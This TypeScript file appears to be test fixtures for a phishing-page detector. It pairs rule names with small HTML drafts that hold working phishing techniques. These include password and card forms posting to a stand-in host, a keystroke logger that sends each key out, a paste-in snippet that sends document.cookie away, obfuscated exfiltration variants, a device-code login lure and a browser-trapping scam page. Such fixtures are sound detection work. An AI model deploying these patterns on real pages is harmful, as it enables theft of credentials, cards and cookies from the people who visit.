import type { GivenDraft } from "./given-draft.ts"
import { makeSite } from "./innocent-site.ts"
import { writeScriptedForm } from "./rule-cases.ts"

const ours = "Ferry tickets to Skerry"
const heading = `<h1>${ours}</h1>`
const elsewhere = "https://gather.example/"
const password = `<input type="password" name="p">`
const form = (fields: string, action = elsewhere) => `<form action="${action}" method="post">${fields}</form>`
const script = (code: string) => `<script>${code}</script>`
const card = `<input name="cardnumber"><input name="cvv">`
export const opensDoor = `onclick=()=>open("https://microsoft.com/devicelogin")`
const sends = `fetch("${elsewhere}",{method:"POST",body:new FormData(f)})`
const holds = script(
  `onclick=()=>document.body.requestFullscreen();addEventListener("beforeunload",stay);history.pushState(0,"");onpopstate=()=>history.pushState(0,"")`,
)
const iban = "DE02 1203 0000 0000 2020 51"
const late = `<p>Your account will be closed today. Pay to ${iban}</p>`

const door = makeSite("a code to take along under no name", "Tickets", `<p>F172-BPUK8</p>${script(opensDoor)}`)
const leaves = makeSite("leaves by a form", ours, `${heading}${form(password)}`)
const keys = makeSite(
  "notes each key",
  ours,
  `${heading}<form action="/in">${password}</form>${script(`var t="";onkeydown=(e)=>{t+=e.key;fetch("${elsewhere}",{method:"POST",body:t}).then((r)=>r.json())}`)}`,
)
const copied = makeSite(
  "was saved",
  ours,
  `<!-- saved from url=(0024)https://moss.example/in -->${heading}${form(card)}`,
)
const picture = makeSite(
  "lies on a picture",
  ours,
  `<h1>${ours}</h1><img src="a.svg"><style>input{position:absolute;top:9px}</style>${writeScriptedForm(elsewhere, password)}`,
)
const counted = makeSite(
  "counts words",
  ours,
  `${heading}${writeScriptedForm(elsewhere, `<textarea name="t" placeholder="Wpisz 12 słów"></textarea>`)}`,
)
const pastes = makeSite(
  "has a script pasted",
  ours,
  `${heading}<p>Press F12 and paste:</p><pre>fetch("${elsewhere}"+document.cookie)</pre>`,
)
const held = makeSite("holds its visitor", "Alert", `<h1>Stop</h1><p>Call 0800 555 0188</p>${holds}`)
const aims = makeSite(
  "aims at an address of a list",
  ours,
  `${heading}<div id="r"></div>${script(`const c={to:"${elsewhere}"};r.innerHTML='<form id="f">${password}</form>';fetch(c.to,{method:"POST",body:new FormData(f)})`)}`,
)
const still = makeSite("has a form without an action", "PayPal: Log in", `<form>${password}</form>`)
const unwraps = makeSite(
  "unwraps itself",
  ours,
  `${heading}${writeScriptedForm(elsewhere, password)}${script(`document.body.innerHTML+=atob("${btoa("<p>Ferns grow on the pier, and moss.</p>".repeat(8))}")`)}`,
)
/** Under a known name, and with nothing but one of these to carry away what is typed. */
const ways = [
  `p.style.background="url(//gather.example/"+p.value+")"`,
  `new Image()["src"]="//gather.example/"+p.value`,
  `window["fet"+"ch"]("//gather.example/"+p.value)`,
  `opener.typed=p.value`,
  `p.form.submit()`,
]
/** Flagged, though no address is read in some of them: a page is still only where none of these stands. */
export const notStill: ReadonlyArray<GivenDraft> = ways.map((way) =>
  makeSite(way, "PayPal: Log in", `<input type="password" id="p">${script(`p.onchange=()=>{${way}}`)}`),
)
/** Nothing can leave it: a training page that shows such a page, and a tool that works with what is typed. */
export const stillPages: ReadonlyArray<GivenDraft> = [
  makeSite("a training page", "PayPal: Log in", `<input type="password"><button onclick="alert('no')">Log in</button>`),
  makeSite(
    "a tool for phrases",
    ours,
    `${heading}<textarea id="p" placeholder="Your seed phrase"></textarea><p id="n"></p>${script(`p.oninput=()=>{n.textContent=p.value.split(" ").length}`)}`,
  ),
]
const given = makeSite(
  "gives beside its form",
  ours,
  `${heading}<form id="f" action="/in">${password}</form>${script(`f.onsubmit=()=>{${sends}}`)}`,
)

/** A rule about what is taken and in whose name, and a draft that is flagged and is not without it. */
export const takingCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]> = [
  ["form-takes-secret", leaves],
  [
    "form-takes-card",
    makeSite(
      "card and frame",
      ours,
      `${heading}${form(card, `${elsewhere}pay.php`)}<iframe hidden src="a.html"></iframe>`,
    ),
  ],
  ["answer-unread", given],
  ["takes-without-name", makeSite("of no name", "Members", `<h1>Sign in</h1>${form(card)}`)],
  [
    "leaves-for-company",
    makeSite(
      "goes to a company",
      ours,
      `${heading}<form id="f">${password}</form>${script(`${sends}.then((r)=>r.json()).then(()=>{location="https://www.paypal.com/"})`)}`,
    ),
  ],
  ["keys-to-other-site", keys],
  ["copied-page", copied],
  ["fields-on-a-picture", picture],
  ["counted-words", counted],
  ["institution-asks", makeSite("is called after a house", "Skerry Bank", `<h1>Skerry Bank</h1>${form(card)}`)],
  ["account-under-name", makeSite("an account under a name", "PayPal", late)],
  ["presses-to-pay-under-name", makeSite("presses to pay under a name", "PayPal", late)],
  [
    "presses-without-name",
    makeSite(
      "presses under no name",
      "Members",
      `<h1>Sign in</h1><p>Your account will be closed today.</p>${form(password, "/in")}`,
    ),
  ],
  [
    "gift-code-elsewhere",
    makeSite("a gift card's code", "Balance", `<h1>What is left</h1><p>Gift card code</p>${form(`<input name="a">`)}`),
  ],
  [
    "lets-in-device",
    makeSite(
      "a code that comes from elsewhere",
      ours,
      `${heading}<code id="c"></code>${script(`fetch("${elsewhere}").then((r)=>r.text()).then((t)=>{c.textContent=t});onclick=()=>open("https://microsoft.com/devicelogin")`)}`,
    ),
  ],
  ["opens-device-door", door],
  ["opens-device-door-without-name", door],
  ["lets-in-device", makeSite("a code to take along", "Netflix", `<p>F172-BPUK8</p>${script(opensDoor)}`)],
  [
    "presses-for-coins",
    makeSite("coins or else", ours, `${heading}<p>Your account will be closed today.</p><p>bc1q${"a".repeat(30)}</p>`),
  ],
  ["unwraps-itself", unwraps],
  ["script-to-paste", pastes],
  ["holds-for-call", held],
  ["holds-without-name", held],
  [
    "small-sum-by-card",
    makeSite(
      "a small sum and a frame",
      "Ferry",
      `<h1>Pay 1.99 €</h1>${form(card, "/a.php")}<iframe hidden src="a.html"></iframe>`,
    ),
  ],
  [
    "words-by-number",
    makeSite("a box for many words", "Trezor", `<h1>24</h1><form action="/a"><textarea></textarea></form>`),
  ],
  [
    "role-asks",
    makeSite("is called after a role", "Webmail", `<h1>Webmail</h1>${writeScriptedForm(elsewhere, password)}`),
  ],
]

/** Kind of mark → a draft that is not flagged without it. */
export const takingMarks: ReadonlyArray<readonly [kind: string, draft: GivenDraft]> = [
  ["form", leaves],
  ["can-send", still],
  ["logs-keys", keys],
  ["copied-from", copied],
  ["placed-fields", picture],
  ["phrase-box", counted],
  ["steals-data", pastes],
  ["traps-visitor", held],
  ["sends-to-variable", aims],
  ["reads-input", aims],
  ["sent-with-input", given],
  ["decodes-itself", unwraps],
]
